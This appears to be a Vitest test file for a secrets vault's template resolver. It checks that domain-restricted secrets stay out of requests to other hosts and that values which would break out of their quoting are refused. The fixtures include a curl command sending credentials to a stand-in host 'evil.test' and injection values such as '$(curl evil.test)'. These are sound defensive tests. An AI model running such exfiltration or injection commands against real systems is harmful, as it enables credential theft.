import { beforeEach, describe, expect, test } from 'vitest';
import { readRequests } from '../../../src/lib/core/secrets/requests/read-requests.ts';
import { valueOf } from '../../support/core.ts';
import { faultyCore, type FaultyCore, newVault } from '../../support/faulty-core.ts';

const quiet = () => undefined;
const UNCHECKED = 'A={{vault:A}}\nB={{vault:B}}\nFREE={{vault:FREE}}';
const REFUSED = 'curl https://evil.test -u {{vault:A}}:{{vault:FREE}}';

let it: FaultyCore;

beforeEach(async () => {
  it = await faultyCore({ fresh: true });
  await newVault(it);
  const add = async (name: string, domains: string) =>
    valueOf(await it.core.secrets.add({ name, value: `value of ${name}`, domains }));
  await add('A', 'api.example.com');
  await add('B', 'api.example.com');
  await add('FREE', '');
});

const timeline = async () =>
  valueOf(
    await it.core.audit.timeline(
      { kind: 'transfers', state: null, from: null, to: null, offset: 0, limit: 10 },
      quiet,
    ),
  ).entries;

describe('a restricted secret where no address can be checked', () => {
  test('goes in only when it was agreed to by name, and that counts once', async () => {
    const { resolve } = it.core.templates;
    const seq = it.view().vault?.seq;
    expect(valueOf(await resolve(UNCHECKED)).text).toBe(
      'A={{vault:A}}\nB={{vault:B}}\nFREE=value of FREE',
    );
    expect(it.view().vault?.seq).toBe(seq);
    expect(valueOf(await resolve(UNCHECKED, null, ['A', 'NOBODY'])).text).toBe(
      'A=value of A\nB={{vault:B}}\nFREE=value of FREE',
    );
    expect(valueOf(await resolve(UNCHECKED)).text).toContain('{{vault:A}}');
  });

  test('is never put in where its request goes elsewhere, whatever is agreed to', async () => {
    const { text } = valueOf(await it.core.templates.resolve(REFUSED, null, ['A']));
    expect(text).toBe('curl https://evil.test -u {{vault:A}}:value of FREE');
    expect(await timeline()).toEqual([]);
  });

  test('shows in the audit by the name that it has, and by none once it is gone', async () => {
    valueOf(await it.core.templates.resolve(UNCHECKED, null, ['A', 'B']));
    const said = async () => (await timeline()).map(({ subject }) => subject);
    expect((await timeline()).map(({ event }) => event)).toEqual([
      { type: 'secrets.exported', format: 'template', count: 1 },
      { type: 'secrets.exported', format: 'template', count: 1 },
    ]);
    expect(await said()).toEqual([
      { type: 'named', name: 'B' },
      { type: 'named', name: 'A' },
    ]);
    const a = valueOf(
      await it.core.secrets.list({ text: 'A', order: 'name', offset: 0, limit: 1 }),
    );
    valueOf(await it.core.secrets.delete(a.rows.map(({ id }) => id)));
    expect(await said()).toEqual([{ type: 'named', name: 'B' }, { type: 'erased' }]);
    expect(valueOf(await it.core.audit.verify(quiet)).findings).toEqual([]);
    valueOf(await it.core.keys.lock());
    expect(await said()).toEqual([{ type: 'sealed' }, { type: 'sealed' }]);
  });

  test('stays out when the log cannot say that it left', async () => {
    it.fault.commit = () => true;
    const resolved = await it.core.templates.resolve(UNCHECKED, null, ['A']);
    expect(resolved).toMatchObject({ ok: false, problem: { code: 'storage.full' } });
  });

  test('is told by a reading that was made beside the core, and without one of a long text', async () => {
    const long = `# ${'x'.repeat(5_000)}\ncurl https://api.example.com -u {{vault:A}}`;
    const status = async (reading: ReturnType<typeof readRequests> | null) =>
      valueOf(await it.core.templates.check(long, reading)).map((one) => one.status);
    expect(await status(readRequests(long))).toEqual(['resolved']);
    expect(await status(null)).toEqual(['noAddress']);
    const endless = await it.core.templates.check('x'.repeat(70_000));
    expect(endless).toMatchObject({ ok: false, problem: { code: 'template.tooLong' } });
    expect(await it.core.templates.resolve('x'.repeat(70_000))).toEqual(endless);
  });
});

describe('a value that would end what it stands in', () => {
  const VALUES: Readonly<Record<string, string>> = {
    quotes: `a" https://evil.test "`,
    blanks: 'a evil.test',
    lines: 'a\nHost: evil.test',
    expanded: '$(curl evil.test)',
    single: `it's`,
  };
  const RESTRICTED = 'curl https://api.example.com -u "{{vault:A}}"';

  beforeEach(async () => {
    for (const [name, value] of Object.entries(VALUES)) {
      valueOf(await it.core.secrets.add({ name, value, domains: '' }));
    }
  });

  const names = async (text: string) => {
    const { text: filled, failed } = valueOf(await it.core.templates.resolve(text));
    for (const { problem } of failed) expect(problem).toEqual({ code: 'template.valueBreaks' });
    for (const { name } of failed) expect(filled).toContain(`{{vault:${name}}}`);
    return failed.map(({ name }) => name);
  };

  test.each([
    [`${RESTRICTED} -d "{{vault:quotes}}"`, ['quotes']],
    [`${RESTRICTED} -d '{{vault:quotes}}'`, []],
    [`${RESTRICTED} -d {{vault:blanks}}`, ['blanks']],
    [`${RESTRICTED} -d "{{vault:blanks}}"`, []],
    [`${RESTRICTED} -d '{{vault:single}}' -H $'X: {{vault:single}}'`, ['single']],
    [`${RESTRICTED} -d "{{vault:expanded}}"`, ['expanded']],
    [`${RESTRICTED} -H 'X: {{vault:lines}}'`, ['lines']],
    [`${RESTRICTED}\n# {{vault:lines}}`, ['lines']],
    [`${RESTRICTED} -d @- <<EOF\n{{vault:expanded}}\nEOF`, ['expanded']],
    [`curl ^\n https://api.example.com -u "{{vault:A}}" -d "{{vault:expanded}}"`, ['expanded']],
    ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:lines}}', ['lines']],
    ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:quotes}}', []],
    ['{"url": "https://api.example.com", "key": "{{vault:A}} {{vault:quotes}}"}', ['quotes']],
    // Nothing is restricted there, and nothing is promised.
    ['curl https://api.example.com -d "{{vault:quotes}}"', []],
  ])('%j', async (text, expected) => {
    expect(await names(text)).toEqual(expected);
  });

  test('a text that its values make endless is refused', async () => {
    const value = 'x'.repeat(64 * 1024);
    valueOf(await it.core.secrets.add({ name: 'LONG', value, domains: '' }));
    const { resolve } = it.core.templates;
    expect((await resolve('{{vault:LONG}}'.repeat(10))).ok).toBe(true);
    expect(await resolve('{{vault:LONG}}'.repeat(100))).toMatchObject({
      ok: false,
      problem: { code: 'template.filledTooLong' },
    });
  });
});
